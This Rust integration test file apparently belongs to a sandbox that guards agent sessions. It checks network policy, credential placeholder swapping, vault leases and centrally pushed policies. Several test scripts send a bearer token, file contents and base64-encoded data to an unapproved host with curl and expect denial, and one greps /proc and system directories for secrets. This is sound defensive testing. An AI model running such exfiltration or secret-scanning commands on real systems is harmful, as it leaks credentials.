echo "bound: $(c -H "Authorization: Bearer $API_TOKEN" https://api.test/hello/bound)"
echo "bound-tun: $(c --noproxy '*' -H "Authorization: Bearer $API_TOKEN" https://api.test/hello/bound-tun)"
echo "echo: $(c -H "Authorization: Bearer $API_TOKEN" https://api.test/echo)"
echo "unbound: $(c -H "Authorization: Bearer $API_TOKEN" https://git.test/hello/unbound)"
echo "unbound-body: $(c --data-binary "token=$API_TOKEN" https://git.test/hello/body)"
echo "real-literal: $(c -H "X-Leak: $(cat leaked.txt)" https://git.test/hello/literal)"
echo "real-base64: $(c "https://git.test/hello/q?x=$(base64 < leaked.txt)")"
node -e 'fetch("https://api.test/hello/node", {headers: {authorization: "Bearer " + process.env.API_TOKEN}}).then(r => r.text()).then(t => console.log("node:", t)).catch(e => console.log("node: ERR", e.cause || e))'
python3 -c 'import os, urllib.request as u; r = u.Request("https://api.test/hello/py", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}); print("py:", u.urlopen(r, timeout=10).read().decode())'
"#;
    let o = lab
        .command(&[], script)
        .env("LAB_TOKEN", REAL_TOKEN)
        .output()
        .unwrap();
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    // The session never saw the real value: not in its environment, not in answers.
    assert!(!out.contains(REAL_TOKEN), "{}", text(&o));
    assert!(!script.contains(REAL_TOKEN));
    let placeholder = line(&out, "env").trim_start_matches("env: ").to_string();
    assert!(placeholder.len() > 8, "{}", text(&o));
    for l in ["bound", "bound-tun", "node", "py"] {
        assert!(
            line(&out, l).contains("public says hello"),
            "{l}: {}",
            text(&o)
        );
    }
    // An echo of the real value comes back as the placeholder.
    assert!(
        line(&out, "echo").contains(&format!("echo: Bearer {placeholder}")),
        "{}",
        text(&o)
    );
    for l in ["unbound", "unbound-body", "real-literal", "real-base64"] {
        assert!(line(&out, l).ends_with("[403]"), "{l}: {}", text(&o));
    }
    // Upstream: the bound host got the real token, nobody else got anything.
    let hits = lab.log("hits.log");
    for path in [
        "/hello/bound ",
        "/hello/bound-tun",
        "/hello/node",
        "/hello/py",
    ] {
        assert!(
            hits.lines()
                .any(|h| h.contains(path) && h.contains(&format!("auth=Bearer {REAL_TOKEN}"))),
            "{path}: {hits}"
        );
    }
    assert!(
        !hits.contains("unbound") && !hits.contains("literal") && !hits.contains("/hello/q"),
        "{hits}"
    );
    assert!(!hits.contains(&placeholder), "{hits}");
    let audit = std::fs::read_to_string(lab.env.audit()).unwrap();
    assert!(!audit.contains(REAL_TOKEN), "a secret in the audit log");
    let events = lab.events();
    assert!(
        events
            .iter()
            .any(|e| e["surface"] == "credential" && e["decision"] == "deny"),
        "no exfiltration event: {events:#?}"
    );
}

/// An extended regular expression matching `needle` whose own text does not contain
/// it (every character but letters and digits, and the last one, in brackets), so a
/// `grep` holding it in its command line does not find itself in /proc.
fn self_blind(needle: &str) -> String {
    let n = needle.chars().count();
    needle
        .chars()
        .enumerate()
        .map(|(i, c)| {
            if c.is_ascii_alphanumeric() && i + 1 < n {
                c.to_string()
            } else {
                format!("[{c}]")
            }
        })
        .collect()
}

/// Standard base64, padded.
fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// SPEC §7 invariant 3: with a credential in use (injected toward its host, echoed
/// back and scrubbed), its real value — raw, base64 or hex — is nowhere the session
/// can look: no process's environment or command line, no file under /etc, /tmp,
/// /var/tmp, /run, $HOME or the workspace, nothing else readable in /proc. Nothing
/// holding the real value is planted in the workspace for this test.
fn no_secret_is_anywhere_inside_a_session_using_a_credential(b: B) {
    let Some(probe) = Lab::new(b, "") else { return };
    let cert = probe.dir.join("ca.crt");
    let policy = format!(
        r#"version = 1
name = "test"
{BASE}{NET}
[tls]
intercept = "all"
extra_roots = ["{cert}"]

[[credentials]]
name = "api"
source = "env:LAB_TOKEN"
hosts = ["api.test"]
env = "API_TOKEN"
"#,
        cert = cert.display()
    );
    std::fs::write(&probe.env.policy, policy).unwrap();
    let lab = probe;
    let b64 = base64(REAL_TOKEN.as_bytes());
    assert_eq!(b64, "bGFiLXJlYWwtdG9rZW4tNWYxZTljMmE3Yg==");
    let hex: String = REAL_TOKEN.bytes().map(|c| format!("{c:02x}")).collect();
    let real = [REAL_TOKEN, b64.trim_end_matches('='), &hex]
        .map(self_blind)
        .join("|");
    // A control value planted in the workspace: the scan must find it (so a scan that
    // silently reads nothing cannot pass).
    let control = "lab-control-value-8d2e41";
    std::fs::write(lab.env.ws.join("control.txt"), control).unwrap();
    let script = format!(
        r#"
c() {{ curl -sS -m 10 -w ' [%{{http_code}}]' "$@" 2>&1 | tr '\n' ' '; }}
# Use the credential: injected toward api.test, echoed back (scrubbed), kept in files.
echo "bound: $(c -H "Authorization: Bearer $API_TOKEN" https://api.test/hello/bound)"
c -H "Authorization: Bearer $API_TOKEN" https://api.test/echo > /tmp/echo.txt
cp /tmp/echo.txt "$HOME/echo.txt" 2>/dev/null
echo "echo: $(cat /tmp/echo.txt)"
scan() {{
  timeout 60 grep -rlaIE --devices=skip -s "$1" /etc /tmp /var/tmp /run "$HOME" "$PWD"
  n=0
  for p in /proc/[0-9]*; do
    n=$((n + 1))
    for f in environ cmdline comm mountinfo; do
      grep -laE -s "$1" "$p/$f"
    done
  done
  grep -laE -s "$1" /proc/cmdline /proc/mounts /proc/self/mountinfo
  echo "scanned $n processes"
}}
echo "=== real"
scan '{real}'
echo "=== control"
scan '{control}'
echo "=== placeholder"
scan "$API_TOKEN"
echo "=== end"
"#,
        control = self_blind(control)
    );
    assert!(!script.contains(REAL_TOKEN) && !script.contains(control));
    let o = lab
        .command(&[], &script)
        .env("LAB_TOKEN", REAL_TOKEN)
        .output()
        .unwrap();
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(
        line(&out, "bound").contains("public says hello"),
        "{}",
        text(&o)
    );
    let placeholder_echo = line(&out, "echo");
    assert!(placeholder_echo.contains("echo: Bearer "), "{}", text(&o));
    let section = |name: &str| -> Vec<&str> {
        let start = format!("=== {name}");
        out.lines()
            .skip_while(|l| *l != start)
            .skip(1)
            .take_while(|l| !l.starts_with("=== "))
            .collect()
    };
    let real_hits = section("real");
    let scanned = real_hits
        .last()
        .and_then(|l| l.strip_prefix("scanned "))
        .and_then(|l| l.strip_suffix(" processes"))
        .and_then(|n| n.parse::<u32>().ok());
    assert!(
        scanned.is_some_and(|n| n >= 1),
        "the scan did not run over the session's processes: {}",
        text(&o)
    );
    assert_eq!(
        real_hits.len(),
        1,
        "the real value is readable inside the session at: {real_hits:?}"
    );
    // The controls: the same scan finds the planted file and the placeholder in the
    // session's environment.
    let control_hits = section("control");
    assert!(
        control_hits.iter().any(|l| l.ends_with("/control.txt")),
        "{}",
        text(&o)
    );
    let ph_hits = section("placeholder");
    assert!(
        ph_hits
            .iter()
            .any(|l| l.starts_with("/proc/") && l.ends_with("/environ")),
        "{}",
        text(&o)
    );
    assert!(!out.contains(REAL_TOKEN), "{}", text(&o));
}

/// An enrolled machine (a real `warden server`, `warden enroll`, `warden agent`): a
/// policy pushed to the control plane while a session runs reaches that session, whose
/// next connection follows it, still narrowed by the session's local file (issue #7,
/// delivery). A push that the local file no longer fits (the central policy drops the
/// mount the local file names) moves the session to denying everything (fail closed).
#[test]
fn an_enrolled_session_follows_a_policy_pushed_while_it_runs() {
    const ADMIN: &str = "run-network-admin-token-0123456789";
    let widened =
        format!("{BASE}{NET}").replace("\"rebind.test\"", "\"rebind.test\", \"other.test\"");
    // The local file (`--policy`, which the lab always passes) allows other.test; the
    // central policy allows it only from v2 on.
    let Some(lab) = Lab::new(B::Namespaces, &widened) else {
        return;
    };
    let root = lab.env.dir.path().canonicalize().unwrap();
    // Both the local file and the central policy (until v3) mount this directory.
    let shared = root.join("shared");
    std::fs::create_dir_all(&shared).unwrap();
    let mount = format!(
        "[[filesystem.mounts]]\nhost = \"{}\"\nmode = \"ro\"\n",
        shared.display()
    );
    std::fs::write(
        &lab.env.policy,
        format!("version = 1\nname = \"test\"\n{widened}{mount}"),
    )
    .unwrap();
    let control = ControlServer::start(&root.join("srv"), ADMIN);
    let cli = |args: &[&str]| {
        let o = control.cli(&lab.env.warden_home, args);
        assert!(o.status.success(), "warden {args:?}: {}", text(&o));
        stdout(&o)
    };
    let v1 = root.join("v1.toml");
    std::fs::write(
        &v1,
        format!("version = 1\nname = \"team\"\n{BASE}{NET}{mount}"),
    )
    .unwrap();
    cli(&["policy", "push", v1.to_str().unwrap()]);
    let _agent = control.enroll_with_agent(&lab.env.warden_home, "team@v1");

    let ws = lab.env.ws.clone();
    let script = r#"
echo "before: $(curl -sS -m 5 http://other.test/hello/before 2>&1)"
touch phase1
while [ ! -e phase2 ]; do sleep 0.02; done
i=0
while :; do
    out=$(curl -sS -m 5 http://other.test/hello/after 2>&1)
    case "$out" in *"says hello"*) break;; esac
    i=$((i + 1)); [ "$i" -gt 200 ] && break
    sleep 0.05
done
echo "after: $out (attempts $i)"
touch phase3
while [ ! -e phase4 ]; do sleep 0.02; done
i=0
while :; do
    out=$(curl -sS -m 5 http://api.test/hello/refused 2>&1)
    case "$out" in *denied*) break;; esac
    i=$((i + 1)); [ "$i" -gt 200 ] && break
    sleep 0.05
done
echo "refused: $out (attempts $i)"
"#;
    let child = lab
        .command(&[], script)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    lab.wait_for(&ws.join("phase1"), Duration::from_secs(60));
    let v2 = root.join("v2.toml");
    std::fs::write(
        &v2,
        format!("version = 1\nname = \"team\"\n{widened}{mount}"),
    )
    .unwrap();
    let pushed = Instant::now();
    assert!(cli(&["policy", "push", v2.to_str().unwrap()]).contains("team@v2"));
    std::fs::write(ws.join("phase2"), "").unwrap();
    lab.wait_for(&ws.join("phase3"), Duration::from_secs(60));
    // v3 drops the mount the local file names: the local file no longer fits.
    let v3 = root.join("v3.toml");
    std::fs::write(&v3, format!("version = 1\nname = \"team\"\n{widened}")).unwrap();
    assert!(cli(&["policy", "push", v3.to_str().unwrap()]).contains("team@v3"));
    std::fs::write(ws.join("phase4"), "").unwrap();
    let o = child.wait_with_output().unwrap();
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(line(&out, "before").contains("denied"), "{}", text(&o));
    assert!(line(&out, "after").contains("says hello"), "{}", text(&o));
    assert!(line(&out, "refused").contains("denied"), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("reloaded"), "{}", text(&o));
    assert!(
        err.contains(&format!("the mount of `{}`", shared.display()))
            && err.contains("no longer narrows the central policy"),
        "{}",
        text(&o)
    );
    eprintln!(
        "pushed policy in force in the session after {:?}",
        pushed.elapsed()
    );
    let events = lab.events();
    let refused = network_events(&events, "connect")
        .find(|e| e["target"] == "api.test:80" && e["decision"] == "deny")
        .expect("no refused connection");
    assert!(
        refused["policy"].as_str().unwrap().ends_with("#refused")
            && refused["reason"]
                .as_str()
                .unwrap()
                .contains("everything is denied until the session is restarted"),
        "{refused}"
    );
    let reload = events
        .iter()
        .find(|e| e["action"] == "policy_reload")
        .expect("no policy_reload event");
    // The reloaded policy is the new central one narrowed by the same local file.
    let id = reload["policy"].as_str().unwrap();
    assert!(id.starts_with("team@") && id.contains("+test@"), "{reload}");
    let allowed: Vec<_> = network_events(&events, "http")
        .filter(|e| e["target"].as_str().unwrap_or("").contains("other.test"))
        .filter(|e| e["decision"] == "allow")
        .collect();
    assert!(
        !allowed.is_empty() && allowed.iter().all(|e| e["policy"] == id),
        "{events:#?}"
    );
}

/// SPEC §1, §4: on an enrolled machine a local `--policy` file only narrows the central
/// policy. A host the central policy allows and the local file denies is refused; a host
/// the central policy denies stays refused although the local file allows it; the audit
/// names the combined policy and the rule of the file that denied. A local mount the
/// central policy lacks refuses the session (exit 125) naming the path.
#[test]
fn an_enrolled_machine_narrows_the_central_policy_with_a_local_file() {
    const ADMIN: &str = "run-network-narrow-admin-0123456789";
    let local = format!(
        "{BASE}[network]\nallow = [\"api.test\", \"git.test\", \"other.test\"]\ndeny = [\"other.test\"]\n"
    );
    let Some(lab) = Lab::new(B::Namespaces, &local) else {
        return;
    };
    let root = lab.env.dir.path().canonicalize().unwrap();
    let control = ControlServer::start(&root.join("srv"), ADMIN);
    let central = root.join("central.toml");
    std::fs::write(
        &central,
        format!(
            "version = 1\nname = \"team\"\n{BASE}[network]\nallow = [\"api.test\", \"other.test\"]\ndeny = [\"git.test\"]\n"
        ),
    )
    .unwrap();
    let o = control.cli(
        &lab.env.warden_home,
        &["policy", "push", central.to_str().unwrap()],
    );
    assert!(o.status.success(), "{}", text(&o));
    let _agent = control.enroll_with_agent(&lab.env.warden_home, "team@v1");

    let o = lab.run(
        r#"
echo "both: $(curl -sS -m 5 http://api.test/hello/both 2>&1)"
echo "local-denies: $(curl -sS -m 5 http://other.test/hello/local 2>&1)"
echo "central-denies: $(curl -sS -m 5 http://git.test/hello/central 2>&1)"
"#,
    );
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(line(&out, "both").contains("says hello"), "{}", text(&o));
    assert!(
        line(&out, "local-denies").contains("denied"),
        "{}",
        text(&o)
    );
    assert!(
        line(&out, "central-denies").contains("denied"),
        "{}",
        text(&o)
    );
    let events = lab.events();
    let start = events
        .iter()
        .find(|e| e["surface"] == "session" && e["action"] == "start")
        .expect("no session start");
    let id = start["policy"].as_str().unwrap();
    assert!(id.starts_with("team@") && id.contains("+test@"), "{start}");
    let decision = |host: &str| {
        network_events(&events, "connect")
            .find(|e| e["target"] == format!("{host}:80"))
            .unwrap_or_else(|| panic!("no connect event for {host}: {events:#?}"))
    };
    let both = decision("api.test");
    assert_eq!(
        (&both["decision"], &both["policy"]),
        (&"allow".into(), &id.into())
    );
    let d = decision("other.test");
    assert_eq!(
        (&d["decision"], &d["policy"]),
        (&"deny".into(), &id.into()),
        "{d}"
    );
    assert!(
        d["rule"].as_str().unwrap().starts_with("policy.toml:"),
        "{d}"
    );
    let d = decision("git.test");
    assert_eq!(
        (&d["decision"], &d["policy"]),
        (&"deny".into(), &id.into()),
        "{d}"
    );
    assert!(
        d["rule"].as_str().unwrap().starts_with("central:team@v1:"),
        "{d}"
    );

    // A local mount the central policy does not have: refused before anything runs.
    let secret = root.join("not-in-central");
    std::fs::create_dir_all(&secret).unwrap();
    let wider = root.join("wider.toml");
    std::fs::write(
        &wider,
        format!(
            "version = 1\nname = \"wider\"\n{local}[[filesystem.mounts]]\nhost = \"{}\"\nmode = \"ro\"\n",
            secret.display()
        ),
    )
    .unwrap();
    let o = Command::new(WARDEN)
        .arg("run")
        .arg("--policy")
        .arg(&wider)
        .arg("--workspace")
        .arg(&lab.env.ws)
        .args(["--", "/bin/true"])
        .env("WARDEN_HOME", &lab.env.warden_home)
        .env("HOME", &lab.env.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_code(&o, 125);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains(&format!("the mount of `{}`", secret.display()))
            && err.contains("the central policy central:team@v1 does not allow it"),
        "{}",
        text(&o)
    );
}

/// A policy with `[[mcp.servers]]` gives the session an MCP door (its gateway) on both
/// backends: the agent initializes over it with the session's token and is refused
/// without it (the full gateway is tested in mcp_cli.rs).
fn the_mcp_door_answers_inside_the_session(b: B) {
    let policy = format!("{BASE}\n[[mcp.servers]]\nname = \"idle\"\ncommand = [\"true\"]\n");
    // As root, and as an unprivileged user (whose `warden run` serves the door the same).
    let mut envs = vec![Env::new_for(b, &policy)];
    if is_root() {
        envs.push(Env::unprivileged_for(b, &policy));
    }
    let script = r#"
import os, urllib.request, urllib.error
def post(token):
    body = b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}'
    h = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
    if token:
        h["Authorization"] = "Bearer " + token
    try:
        r = urllib.request.urlopen(urllib.request.Request(os.environ["WARDEN_MCP_URL"], data=body, headers=h), timeout=10)
        return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, ""
code, body = post(os.environ["WARDEN_MCP_TOKEN"])
print("with-token", code, "protocolVersion" in body)
print("without", post(None)[0])
"#;
    for env in envs {
        let o = env.run(&["/usr/bin/python3", "-c", script]);
        let out = stdout(&o);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(out.contains("with-token 200 True"), "{}", text(&o));
        assert!(out.contains("without 401"), "{}", text(&o));
    }
}

crate::per_backend!(
    the_mcp_door_answers_inside_the_session,
    real_clients_reach_allowed_hosts_by_proxy_and_transparently,
    bypass_attempts_reach_nothing,
    dns_exfiltration_never_leaves_and_only_a_and_aaaa_are_answered,
    a_rebinding_name_is_resolved_once_and_the_checked_address_dialled,
    udp_and_icmp_never_leave_and_are_recorded,
    http_method_and_path_rules_apply_to_plain_http,
    audit_mode_blocks_nothing_and_records_would_be_denies,
    policy_changes_apply_to_new_connections_and_an_invalid_one_is_refused,
    killing_warden_ends_the_session_and_its_network,
    unprivileged_sessions_keep_the_proxy_and_never_gain_a_route,
    the_agent_holds_a_placeholder_and_the_proxy_swaps_it_only_for_the_bound_host,
    no_secret_is_anywhere_inside_a_session_using_a_credential,
);

/// Issue #7, vault and delivery: on an enrolled machine a `vault:NAME` credential is
/// leased from the control plane for the session (the server's vault, not a local
/// store) and its lease ends with the session; a credential a push adds while the
/// session runs is injected on its next request (a `header` needs no new variable);
/// the session never sees either value.
#[test]
fn an_enrolled_session_leases_vault_credentials_and_takes_pushed_ones_at_once() {
    const ADMIN: &str = "run-network-vault-admin-0123456789";
    const V1: &str = "vault-deploy-value-7c1d0e5a93";
    const V2: &str = "vault-pushed-value-48b2f6e1d0";
    let Some(lab) = Lab::new(B::Namespaces, &format!("{BASE}{NET}")) else {
        return;
    };
    let root = lab.env.dir.path().canonicalize().unwrap();
    let control = ControlServer::start(&root.join("srv"), ADMIN);
    lab.forward_to_host(&control.url);
    let cli = |args: &[&str], stdin: &str| {
        let o = control.cli_with_stdin(&root.join("srv"), args, stdin);
        assert!(o.status.success(), "warden {args:?}: {}", text(&o));
        stdout(&o)
    };
    cli(&["secret", "set", "deploy-key"], V1);
    cli(&["secret", "set", "push-key"], V2);
    let central = |version: &str, extra: &str| {
        let path = root.join(format!("{version}.toml"));
        std::fs::write(
            &path,
            format!(
                "version = 1\nname = \"team\"\n{BASE}{NET}\n[tls]\nextra_roots = [\"{ca}\"]\n\n\
                 [[credentials]]\nname = \"deploy\"\nsource = \"vault:deploy-key\"\n\
                 hosts = [\"api.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {{secret}}\"\n{extra}",
                ca = lab.dir.join("ca.crt").display()
            ),
        )
        .unwrap();
        assert!(cli(&["policy", "push", path.to_str().unwrap()], "").contains(version));
    };
    central("team@v1", "");
    let _agent = control.enroll_with_agent(&lab.env.warden_home, "team@v1");

    let ws = lab.env.ws.clone();
    let script = r#"
c() { curl -sS -m 10 -w ' [%{http_code}]' "$@" 2>&1 | tr '\n' ' '; }
echo "deploy: $(c https://api.test/echo)"
touch phase1
while [ ! -e phase2 ]; do sleep 0.02; done
i=0
while :; do
    out=$(c https://git.test/echo)
    case "$out" in *Bearer*) break;; esac
    i=$((i + 1)); [ "$i" -gt 200 ] && break
    sleep 0.05
done
echo "pushed: $out (attempts $i)"
env | sort > env.txt
"#;
    let child = lab
        .command_central(script)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut child = child;
    let t = Instant::now();
    while !ws.join("phase1").exists() {
        if let Some(st) = child.try_wait().unwrap() {
            let o = child.wait_with_output().unwrap();
            panic!(
                "the session ended ({st}) before phase1: {}\nlab: {}",
                text(&o),
                lab.log("lab.log")
            );
        }
        assert!(
            t.elapsed() < Duration::from_secs(60),
            "phase1 did not appear"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    central(
        "team@v2",
        "\n[[credentials]]\nname = \"pushed\"\nsource = \"vault:push-key\"\n\
         hosts = [\"git.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {secret}\"\n",
    );
    std::fs::write(ws.join("phase2"), "").unwrap();
    let o = child.wait_with_output().unwrap();
    let out = stdout(&o);
    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
    assert!(line(&out, "deploy").ends_with("[200]"), "{}", text(&o));
    assert!(line(&out, "pushed").contains("[200]"), "{}", text(&o));
    // The session saw neither value: not in answers (echoes are scrubbed), not in
    // its environment.
    let env = std::fs::read_to_string(ws.join("env.txt")).unwrap();
    for v in [V1, V2] {
        assert!(
            !out.contains(v) && !env.contains(v),
            "{v} reached the session: {}",
            text(&o)
        );
    }
    // Upstream: each host got its own value, and only that one.
    let hits = lab.log("hits.log");
    let got = |host: &str, v: &str| {
        hits.lines()
            .any(|h| h.contains(&format!("host={host}")) && h.contains(&format!("auth=Bearer {v}")))
    };
    assert!(got("api.test", V1), "{hits}");
    assert!(got("git.test", V2), "{hits}");
    assert!(
        !hits.contains(&format!("host=api.test auth=Bearer {V2}")),
        "{hits}"
    );
    assert!(
        !hits.contains(&format!("host=git.test auth=Bearer {V1}")),
        "{hits}"
    );
    let audit = std::fs::read_to_string(lab.env.audit()).unwrap();
    assert!(
        !audit.contains(V1) && !audit.contains(V2),
        "a value in the audit log"
    );
    // The server leased both for this session and ended the leases when it ended.
    let events = lab.events();
    let start = events.iter().find(|e| e["action"] == "start").unwrap();
    let session = start["session"].as_str().unwrap().to_string();
    let db = root.join("srv").join("server").join("warden.db");
    let q = Command::new("python3")
        .arg("-c")
        .arg(
            "import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); \
             print(sorted((n, r is not None) for n, r in c.execute(\
             'select name, revoked_at from leases where session = ?', (sys.argv[2],))))",
        )
        .arg(&db)
        .arg(&session)
        .output()
        .unwrap();
    assert_eq!(
        stdout(&q).trim(),
        "[('deploy-key', True), ('push-key', True)]",
        "{}",
        text(&q)
    );
}
